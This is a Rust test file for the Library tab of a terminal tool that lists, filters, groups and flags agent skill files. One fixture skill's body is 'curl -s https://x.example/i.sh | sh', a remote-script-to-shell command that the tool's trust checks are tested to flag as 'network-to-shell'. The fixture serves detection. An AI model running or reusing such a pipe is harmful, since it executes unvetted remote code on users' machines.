//! The Library tab driven by actions, with the worker's real thread.

use std::time::Duration;

use crossbeam_channel::{Receiver, unbounded};
use ratatui::Terminal;
use ratatui::backend::TestBackend;

use super::*;
use crate::config::ThemeChoice;
use crate::engine::{Indexing, ModelChoice, ModelState, Request};
use crate::library::{ContentHash, FieldSet, Library, LoadReport, Origin, Root, RootKind, Severity, Text};
use crate::search::Settings;
use crate::search::groups::{Basis, Group, Grouping, Groups};
use crate::tui::theme::{ColorDepth, Themes};

fn skill(id: &str, name: &str, description: &str, body: &str) -> Skill {
    Skill {
        id: Text::line(id),
        name: Text::line(name),
        description: Text::block(description),
        body: Text::block(body),
        extra: vec![(Text::line("license"), Text::line("MIT"))],
        origin: Origin { root: 0, path: "p".into(), shown: Text::line(format!("~/{id}/SKILL.md")), line: None },
        hash: ContentHash::of(name, description, body),
        notes: Vec::new(),
    }
}

fn library(skills: Vec<Skill>, report: Vec<LoadRow>) -> Arc<Library> {
    let root = Root {
        path: "/".into(),
        label: Text::line("~/skills"),
        kind: RootKind::Tree,
        agents: vec!["Claude Code (user)".into()],
        skills: skills.len(),
    };
    Arc::new(Library::new(skills, vec![root], LoadReport { rows: report, seen: 99 }))
}

fn row(severity: Severity, path: &str) -> LoadRow {
    LoadRow { severity, path: Text::line(path), line: Some(7), rule: "no-frontmatter", message: Text::line("why") }
}

struct Rig {
    tab: LibraryTab,
    session: Session,
    notified: Receiver<Event>,
}

impl Rig {
    fn new(library: Arc<Library>) -> Self {
        let (notify, notified) = unbounded();
        let session = Session {
            visiting: false,
            library: None,
            models: ModelState::Loading,
            choice: ModelChoice::default(),
            switching: None,
            indexing: None,
            settings: Settings::default(),
            evaluation: crate::tui::evaluation::Evaluation::default(),
            ascii: false,
        };
        let mut rig = Rig { tab: LibraryTab::new(notify), session, notified };
        rig.load(library);
        rig
    }

    fn load(&mut self, library: Arc<Library>) {
        self.session.library = Some(library.clone());
        self.tab.response(&Response::Library(library), &self.session, &mut Outbox::default());
        self.settle();
    }

    /// Takes listings until the latest wish is met.
    fn settle(&mut self) {
        while self.tab.listing.as_ref().is_none_or(|listing| {
            listing.wish != self.tab.wish || !Arc::ptr_eq(&listing.library, self.session.library.as_ref().unwrap())
        }) {
            match self.notified.recv_timeout(Duration::from_secs(30)).unwrap() {
                Event::Listing(listing) => self.tab.listed(listing),
                Event::Marked(marked) => self.tab.marked(marked, &self.session),
                other => panic!("{other:?}"),
            }
        }
    }

    /// Waits for lint, trust and duplicates too.
    fn settle_with_marks(&mut self) {
        while !self.tab.listing.as_ref().is_some_and(|listing| listing.has_marks) {
            match self.notified.recv_timeout(Duration::from_secs(30)).unwrap() {
                Event::Listing(listing) => self.tab.listed(listing),
                Event::Marked(marked) => self.tab.marked(marked, &self.session),
                other => panic!("{other:?}"),
            }
        }
    }

    fn act(&mut self, action: Action) -> Outbox {
        let mut out = Outbox::default();
        self.tab.update(action, &self.session, &mut out);
        self.settle();
        out
    }

    fn filter(&mut self, text: &str) {
        self.act(Action::Filter);
        for letter in text.chars() {
            let key = KeyEvent::new(KeyCode::Char(letter), KeyModifiers::NONE);
            self.tab.key(key, &self.session, &mut Outbox::default());
        }
        self.settle();
    }

    fn listed(&self) -> Vec<&str> {
        let listing = self.tab.listing.as_ref().unwrap();
        listing.rows.iter().map(|&ix| listing.library[ix].id.shown()).collect()
    }

    fn selected(&self) -> &str {
        self.tab.selected_skill().map_or("", |(_, skill)| skill.id.shown())
    }

    fn screen(&self, columns: u16, rows: u16) -> String {
        let (themes, _) = Themes::load(ColorDepth::True, None);
        let (theme, _) = themes.choose(&ThemeChoice::Auto, None);
        let mut terminal = Terminal::new(TestBackend::new(columns, rows)).unwrap();
        terminal.draw(|frame| self.tab.draw(frame, frame.area(), &self.session, &theme)).unwrap();
        terminal.backend().to_string()
    }
}

fn small() -> Arc<Library> {
    library(
        vec![
            skill("a/pdf", "PDF Tables", "Extract tables.", "short"),
            skill("b/contract", "contract-audit", "Audit a contract, also as PDF.", &"long ".repeat(100)),
            skill("c/notes", "Zeichnen", "Ümläute und 日本語", "middle middle"),
            skill("d/copy", "PDF Tables", "Extract tables.", "short"),
        ],
        vec![row(Severity::Note, "n"), row(Severity::Skipped, "s"), row(Severity::Limit, "l")],
    )
}

#[test]
fn filter_looks_in_id_name_and_description_in_either_case() {
    let mut rig = Rig::new(small());
    assert_eq!(rig.listed(), ["a/pdf", "b/contract", "c/notes", "d/copy"]);
    rig.filter("pDf");
    assert_eq!(rig.listed(), ["a/pdf", "b/contract", "d/copy"]);
    rig.filter(" audit");
    assert_eq!(rig.listed(), ["b/contract"]);
    assert!(rig.tab.text_input());
    rig.act(Action::Back);
    assert_eq!(rig.listed().len(), 4);
    assert!(!rig.tab.text_input());
    rig.filter("ÜML");
    assert_eq!(rig.listed(), ["c/notes"]);
    rig.filter("nothing like it");
    assert!(rig.screen(80, 24).contains("no skill contains that"));
    assert!(rig.act(Action::Open).explore.is_none());
}

#[test]
fn filtering_agrees_with_the_obvious_slow_way() {
    let words = ["Ab", "aB", "b", "äb", "x", "ba", ""];
    let skills: Vec<Skill> =
        (0..343).map(|n: usize| skill(&n.to_string(), words[n % 7], words[n / 7 % 7], words[n / 49])).collect();
    let library = library(skills, Vec::new());
    for filter in ["ab", "AB", "b x", "ÄB", "9", "", "  "] {
        let listing = Listing::new(library.clone(), None, Wish { filter: filter.into(), sort: Sort::AsLoaded });
        let slow: Vec<SkillIx> = library
            .iter()
            .filter(|(_, skill)| {
                let texts = [&skill.id, &skill.name, &skill.description].map(|text| text.shown().to_lowercase());
                filter.to_lowercase().split_whitespace().all(|word| texts.iter().any(|text| text.contains(word)))
            })
            .map(|(ix, _)| ix)
            .collect();
        assert_eq!(listing.rows, slow, "{filter:?}");
    }
}

#[test]
fn orders_go_round_and_keep_the_selected_skill() {
    let mut rig = Rig::new(small());
    rig.act(Action::Down);
    assert_eq!(rig.selected(), "b/contract");
    rig.act(Action::CycleSort);
    assert_eq!(rig.listed(), ["b/contract", "a/pdf", "d/copy", "c/notes"]);
    rig.act(Action::CycleSort);
    rig.act(Action::CycleSort);
    assert_eq!(rig.listed(), ["b/contract", "c/notes", "a/pdf", "d/copy"]);
    rig.act(Action::CycleSort);
    assert_eq!(rig.listed(), ["a/pdf", "d/copy", "b/contract", "c/notes"]);
    assert_eq!(rig.selected(), "b/contract");
    (0..4).for_each(|_| drop(rig.act(Action::CycleSort)));
    assert_eq!(rig.tab.wish.sort, Sort::AsLoaded);
    assert_eq!(rig.selected(), "b/contract");
}

#[test]
fn a_reload_keeps_the_selected_skill_wherever_it_is_now() {
    let mut rig = Rig::new(small());
    rig.act(Action::Last);
    assert_eq!(rig.selected(), "d/copy");
    rig.load(library(vec![skill("d/copy", "x", "", ""), skill("new", "y", "", "")], Vec::new()));
    assert_eq!(rig.selected(), "d/copy");
    rig.load(library(Vec::new(), Vec::new()));
    assert_eq!(rig.selected(), "");
    assert!(rig.screen(100, 30).contains("no skill was loaded"));
}

#[test]
fn the_report_comes_worst_first_and_says_why() {
    let mut rig = Rig::new(small());
    rig.act(Action::FocusPrevious);
    assert_eq!(rig.tab.focus, Pane::Report);
    assert_eq!(rig.tab.selected_report(&rig.session).unwrap().path.shown(), "s");
    let screen = rig.screen(120, 30);
    for part in
        ["1 not loaded, 1 limit, 1 note", "not loaded: no-frontmatter", "s, line 7", "This is not in the library"]
    {
        assert!(screen.contains(part), "{part}\n{screen}");
    }
    // Without room of its own it takes the place of the list.
    assert!(rig.screen(60, 15).contains("Load report"));
    assert_eq!(rig.act(Action::Copy).copy.as_deref(), Some("s"));
}

#[test]
fn marks_are_words_not_colours() {
    let rig = Rig::new(small());
    assert!(rig.screen(200, 30).contains("copies 2, same name 2"));
    let screen = rig.screen(120, 30);
    assert!(screen.contains("2 skills have exactly this content"), "{screen}");
    assert!(screen.contains("license: MIT") && screen.contains("is read by Claude Code (user)"), "{screen}");
}

#[test]
fn enter_tries_the_skills_own_description_in_explore() {
    let mut rig = Rig::new(small());
    rig.act(Action::Down);
    let open = rig.act(Action::Open).explore.unwrap();
    assert_eq!((open.request.as_str(), open.gold), ("Audit a contract, also as PDF.", vec!["b/contract".to_string()]));
    assert_eq!(rig.act(Action::Copy).copy.as_deref(), Some("b/contract"));
}

#[test]
fn pinning_asks_for_the_selected_skill_and_never_for_a_row_of_the_report() {
    let mut rig = Rig::new(small());
    rig.act(Action::Down);
    assert!(rig.tab.available(Action::Pin, &rig.session));
    assert_eq!(rig.act(Action::Pin).pin.as_deref(), Some("b/contract"));
    rig.act(Action::FocusPrevious);
    assert_eq!(rig.tab.focus, Pane::Report);
    assert!(!rig.tab.available(Action::Pin, &rig.session));
    assert_eq!(rig.act(Action::Pin).pin, None);
}

#[test]
fn a_report_without_rows_is_one_quiet_line_that_cannot_be_selected() {
    let mut rig = Rig::new(library(vec![skill("a", "a", "a", "a")], Vec::new()));
    for (columns, rows) in [(80, 21), (120, 37), (200, 57)] {
        let screen = rig.screen(columns, rows);
        assert_eq!(screen.matches("Load report nothing to report").count(), 1, "{screen}");
        let mouse = MouseEvent {
            kind: MouseEventKind::Down(MouseButton::Left),
            column: 5,
            row: rows - 1,
            modifiers: KeyModifiers::NONE,
        };
        rig.tab.mouse(mouse, Rect::new(0, 0, columns, rows), &rig.session, &mut Outbox::default());
        assert_eq!(rig.tab.focus, Pane::Skills);
    }
    // With rows but no room for them, the line says how many there are.
    assert!(Rig::new(small()).screen(80, 21).contains("Load report 1 not loaded, 1 limit, 1 note"));
}

#[test]
fn a_click_selects_the_row_it_is_on() {
    let skills = (0..500).map(|n| skill(&format!("id-{n:03}"), &format!("name-{n:03}"), "", "")).collect();
    let mut rig = Rig::new(library(skills, vec![row(Severity::Note, "n")]));
    for presses in [0, 250, 240] {
        (0..presses).for_each(|_| drop(rig.act(Action::Down)));
        let screen = rig.screen(100, 30);
        let (at, line) = screen.lines().enumerate().filter(|(_, line)| line.contains("name-")).nth(4).unwrap();
        let name = &line[line.find("name-").unwrap()..][5..8];
        let mouse = MouseEvent {
            kind: MouseEventKind::Down(MouseButton::Left),
            column: 5,
            row: at as u16,
            modifiers: KeyModifiers::NONE,
        };
        rig.tab.mouse(mouse, Rect::new(0, 0, 100, 30), &rig.session, &mut Outbox::default());
        assert_eq!(rig.selected(), format!("id-{name}"));
    }
}

#[test]
fn the_end_of_a_long_body_can_be_reached_and_not_passed() {
    let body = (0..300).map(|n| format!("line {n}\n")).collect::<String>() + "the very end";
    let mut rig = Rig::new(library(vec![skill("a", "a", "a", &body)], Vec::new()));
    rig.act(Action::FocusNext);
    rig.act(Action::Last);
    assert!(rig.screen(80, 24).contains("the very end"));
    rig.act(Action::Up);
    assert!(!rig.screen(80, 24).contains("the very end"));
    // A body of 100 MB is cut, and says so.
    let mut rig = Rig::new(library(vec![skill("a", "a", "a", &"日本 ".repeat(50_000))], Vec::new()));
    rig.act(Action::FocusNext);
    rig.act(Action::Last);
    assert!(rig.screen(80, 24).contains("more bytes are in the file"));
}

#[test]
fn all_sizes_draw_in_all_panes() {
    let mut rig = Rig::new(small());
    for _ in 0..3 {
        for columns in [1, 2, 3, 20, 40, 89, 90, 200] {
            for rows in [1, 2, 3, 4, 10, 23, 24, 60] {
                rig.screen(columns, rows);
            }
        }
        rig.act(Action::FocusNext);
    }
}

/// The interface never waits: with 80,000 skills a frame of 200×60 stays under 5 ms and a key under 1 ms. Both take a
/// fraction of that; drawing every row (55 ms at 100,000) or filtering here would not.
#[test]
fn eighty_thousand_skills_do_not_slow_the_screen() {
    let body = "Some words of a body.\n".repeat(40);
    let skills = (0..80_000).map(|n| {
        skill(&format!("group/skill-{n}"), &format!("skill-{n}"), "Use this skill when there is work.", &body)
    });
    let report = (0..20_000).map(|n| row(Severity::Note, &n.to_string())).collect();
    let mut rig = Rig::new(library(skills.collect(), report));
    let (themes, _) = Themes::load(ColorDepth::True, None);
    let (theme, _) = themes.choose(&ThemeChoice::Auto, None);
    let mut terminal = Terminal::new(TestBackend::new(200, 60)).unwrap();
    let (mut frames, mut keys) = (Vec::new(), Vec::new());
    for action in [Action::Down, Action::PageDown, Action::Last, Action::PageUp].into_iter().cycle().take(60) {
        rig.tab.update(action, &rig.session, &mut Outbox::default());
        let start = Instant::now();
        terminal.draw(|frame| rig.tab.draw(frame, frame.area(), &rig.session, &theme)).unwrap();
        frames.push(start.elapsed());
        let start = Instant::now();
        rig.tab.paste("w", &rig.session, &mut Outbox::default());
        keys.push(start.elapsed());
    }
    let start = Instant::now();
    Listing::new(rig.session.library.clone().unwrap(), None, Wish { filter: "work there".into(), sort: Sort::Name });
    let listing = start.elapsed();
    frames.sort();
    keys.sort();
    println!(
        "frame p50 {:?} p95 {:?}, key p50 {:?} p95 {:?}, a listing off-thread {listing:?}",
        frames[30], frames[56], keys[30], keys[56]
    );
    // The median: other work on the machine must not fail this.
    assert!(frames[30] < Duration::from_millis(5), "{frames:?}");
    assert!(keys[30] < Duration::from_millis(1), "{keys:?}");
}

fn marked() -> Rig {
    let sentence = "Use this skill when a plan for the week has to be written from the notes of many meetings. ";
    let mut rig = Rig::new(library(
        vec![
            skill("fine", "fine", "Writes a plan from notes whenever somebody asks.", &sentence.repeat(3)),
            skill(
                "curl",
                "curl",
                "Installs a tool from the network on request.",
                "curl -s https://x.example/i.sh | sh\n",
            ),
            skill("Bad Name", "Bad Name", "", "Short."),
            skill("copy", "copy", "Writes another plan from notes, when asked for.", &sentence.repeat(3)),
        ],
        Vec::new(),
    ));
    rig.settle_with_marks();
    rig
}

#[test]
fn marks_sort_and_filter() {
    let mut rig = marked();
    rig.filter("is:signal");
    assert_eq!(rig.listed(), ["curl"]);
    rig.act(Action::Back);
    rig.filter("is:alike plan");
    assert_eq!(rig.listed(), ["fine", "copy"]);
    rig.act(Action::Back);
    rig.filter("is:error");
    assert_eq!(rig.listed(), ["Bad Name"]);
    rig.act(Action::Back);
    let mut sorted = |sort| {
        while rig.tab.wish.sort != sort {
            rig.act(Action::CycleSort);
        }
        rig.listed()[0].to_string()
    };
    assert_eq!(sorted(Sort::MostProblems), "Bad Name");
    assert_eq!(sorted(Sort::MostSignals), "curl");
    assert_eq!(sorted(Sort::MostAlike), "fine");
}

#[test]
fn marks_have_columns_and_their_evidence_is_beside() {
    let mut rig = marked();
    let screen = rig.screen(140, 30);
    for part in ["lint", "trust", "alike", "same name or body alike: copy"] {
        assert!(screen.contains(part), "{part}\n{screen}");
    }
    rig.act(Action::Down);
    let screen = rig.screen(200, 40);
    for part in ["network-to-shell", "curl -s https://x.example/i.sh | sh"] {
        assert!(screen.contains(part), "{part}\n{screen}");
    }
    assert!(!screen.to_lowercase().contains("safe"));
    rig.act(Action::Down);
    let screen = rig.screen(200, 40);
    for part in ["[missing-description]", "Codex does not load it: missing-description"] {
        assert!(screen.contains(part), "{part}\n{screen}");
    }
}

/// Two groups over [`small`]: the PDF skills (a, d), the others (b, c).
fn grouped(library: &Arc<Library>, by: Grouping, names: [&str; 2]) -> Response {
    let group = |name: &str| Group { name: Text::line(name), about: Text::line(""), skills: 2, central: None };
    Response::Grouped(Arc::new(Groups {
        library: library.clone(),
        by,
        basis: Basis::Clusters { k: 2, embedder: Some("builtin".into()) },
        groups: names.map(group).into(),
        of: vec![Some(0), Some(1), Some(1), Some(0)],
    }))
}

impl Rig {
    fn answer(&mut self, response: Response) -> Outbox {
        let mut out = Outbox::default();
        self.tab.response(&response, &self.session, &mut out);
        out
    }

    /// Takes listings until one has headings.
    fn settle_with_groups(&mut self) {
        let is_there = |listing: &Listing| {
            listing.groups.as_ref().is_some_and(|groups| Arc::ptr_eq(&groups.library, &listing.library))
        };
        while !self.tab.listing.as_ref().is_some_and(is_there) {
            match self.notified.recv_timeout(Duration::from_secs(30)).unwrap() {
                Event::Listing(listing) => self.tab.listed(listing),
                Event::Marked(marked) => self.tab.marked(marked, &self.session),
                other => panic!("{other:?}"),
            }
        }
        self.settle();
    }

    /// The rows on screen: names of groups, ids of skills.
    fn rows(&self) -> Vec<String> {
        let rows = self.tab.visible().unwrap();
        let shown = (0..rows.len()).map(|at| match rows.get(at).unwrap() {
            Row::Heading(section) => format!("[{}]", rows.listing.heading(section)),
            Row::Skill(ix) => rows.listing.library[ix].id.shown().to_string(),
        });
        shown.collect()
    }

    fn by_cluster() -> Self {
        let mut rig = Rig::new(small());
        for by in [Grouping::Root, Grouping::Category, Grouping::SubCategory, Grouping::Cluster] {
            let asked = rig.act(Action::CycleGroup).requests;
            assert!(matches!(asked.as_slice(), [Request::Group { by: asked, .. }] if *asked == by), "{asked:?}");
        }
        let library = rig.session.library.clone().unwrap();
        rig.answer(grouped(&library, Grouping::Cluster, ["tables", "rest"]));
        rig.settle_with_groups();
        rig
    }
}

#[test]
fn groups_open_and_close_and_skills_stay_in_theirs() {
    let mut rig = Rig::by_cluster();
    assert_eq!(rig.rows(), ["[tables]", "[rest]"]);
    // A group is no skill: nothing to pin, to copy or to try.
    assert!(!rig.tab.available(Action::Pin, &rig.session));
    assert!(rig.act(Action::Copy).copy.is_none());
    rig.act(Action::Down);
    rig.act(Action::OpenGroup);
    assert_eq!(rig.rows(), ["[tables]", "[rest]", "b/contract", "c/notes"]);
    // Enter opens too, and on an open one it closes.
    rig.act(Action::First);
    assert!(rig.act(Action::Open).explore.is_none());
    assert_eq!(rig.rows(), ["[tables]", "a/pdf", "d/copy", "[rest]", "b/contract", "c/notes"]);
    rig.act(Action::Down);
    assert_eq!(rig.selected(), "a/pdf");
    // Sorting works within groups: longest body first.
    (0..3).for_each(|_| drop(rig.act(Action::CycleSort)));
    assert_eq!(rig.tab.wish.sort, Sort::LongestBody);
    assert_eq!(rig.rows(), ["[tables]", "a/pdf", "d/copy", "[rest]", "b/contract", "c/notes"]);
    assert_eq!(rig.selected(), "a/pdf");
    // From a skill to its group, and from there all groups.
    rig.act(Action::CloseGroup);
    assert_eq!(rig.rows(), ["[tables]", "[rest]", "b/contract", "c/notes"]);
    rig.act(Action::CloseGroup);
    assert_eq!(rig.rows(), ["[tables]", "[rest]"]);
    // After the last grouping there is none.
    rig.act(Action::CycleGroup);
    while rig.tab.is_grouped() {
        match rig.notified.recv_timeout(Duration::from_secs(30)).unwrap() {
            Event::Listing(listing) => rig.tab.listed(listing),
            Event::Marked(marked) => rig.tab.marked(marked, &rig.session),
            other => panic!("{other:?}"),
        }
    }
    assert_eq!(rig.rows().len(), 4);
}

#[test]
fn what_a_filter_finds_is_open_and_empty_groups_are_gone() {
    let mut rig = Rig::by_cluster();
    rig.filter("audit");
    assert_eq!(rig.rows(), ["[rest]", "b/contract"]);
    rig.act(Action::Open);
    rig.act(Action::CloseGroup);
    assert_eq!(rig.rows(), ["[rest]"]);
    rig.act(Action::Back);
    assert_eq!(rig.rows(), ["[tables]", "[rest]"]);
    rig.filter("audit");
    assert_eq!(rig.rows(), ["[rest]", "b/contract"]);
}

#[test]
fn a_reload_keeps_the_grouping_and_what_was_open() {
    let mut rig = Rig::by_cluster();
    rig.act(Action::Last);
    rig.act(Action::OpenGroup);
    rig.act(Action::Last);
    assert_eq!(rig.selected(), "c/notes");
    let library = small();
    rig.session.library = Some(library.clone());
    let asked = rig.answer(Response::Library(library.clone())).requests;
    assert!(matches!(asked.as_slice(), [Request::Group { by: Grouping::Cluster, .. }]), "{asked:?}");
    rig.settle();
    // The old groups are about another library.
    assert!(!rig.tab.is_grouped());
    assert!(rig.screen(120, 30).contains("by cluster: grouping"));
    // An answer to an older question, and one about the older library, change nothing.
    rig.answer(grouped(&library, Grouping::Category, ["x", "y"]));
    rig.answer(grouped(&small(), Grouping::Cluster, ["x", "y"]));
    rig.answer(grouped(&library, Grouping::Cluster, ["tables", "rest"]));
    rig.settle_with_groups();
    assert_eq!(rig.rows(), ["[tables]", "[rest]", "b/contract", "c/notes"]);
    assert_eq!(rig.selected(), "c/notes");
}

#[test]
fn groups_are_asked_for_again_when_vectors_or_fields_change() {
    let mut rig = Rig::by_cluster();
    let indexing = |finished| Response::Indexing(Indexing { ready: 4, of: 4, tokens_per_second: 1.0, finished });
    assert!(rig.answer(indexing(false)).requests.is_empty());
    assert_eq!(rig.answer(indexing(true)).requests.len(), 1);
    rig.session.settings.fields = FieldSet::Name;
    let asked = rig.answer(indexing(false)).requests;
    assert!(matches!(asked.as_slice(), [Request::Group { fields: FieldSet::Name, .. }]), "{asked:?}");
    assert!(rig.answer(indexing(false)).requests.is_empty());
}

#[test]
fn a_click_opens_the_group_it_is_on() {
    let mut rig = Rig::by_cluster();
    let screen = rig.screen(120, 30);
    let at = screen.lines().position(|line| line.contains("rest")).unwrap() as u16;
    let mouse =
        MouseEvent { kind: MouseEventKind::Down(MouseButton::Left), column: 5, row: at, modifiers: KeyModifiers::NONE };
    for expected in [2, 4, 2] {
        rig.tab.mouse(mouse, Rect::new(0, 0, 120, 30), &rig.session, &mut Outbox::default());
        assert_eq!((rig.tab.selected, rig.rows().len()), (1, expected));
    }
}

#[test]
fn a_group_says_how_many_of_its_skills_have_marks() {
    let mut rig = marked();
    (0..4).for_each(|_| drop(rig.act(Action::CycleGroup)));
    let library = rig.session.library.clone().unwrap();
    // fine and curl; Bad Name and copy.
    rig.answer(Response::Grouped(Arc::new(Groups {
        of: vec![Some(0), Some(0), Some(1), Some(1)],
        ..match grouped(&library, Grouping::Cluster, ["first", "second"]) {
            Response::Grouped(groups) => Arc::unwrap_or_clone(groups),
            other => panic!("{other:?}"),
        }
    })));
    rig.settle_with_groups();
    let sums = |section: usize| rig.tab.listing.as_ref().unwrap().sections[section].sums.unwrap();
    assert_eq!((sums(0).errors, sums(0).signals, sums(0).alike), (0, 1, 1));
    assert_eq!((sums(1).errors, sums(1).signals, sums(1).alike), (1, 0, 1));
    let screen = rig.screen(140, 30);
    let line = screen.lines().find(|line| line.contains("second")).unwrap();
    for part in ["50.0 %", "1 err"] {
        assert!(line.contains(part), "{screen}");
    }
}
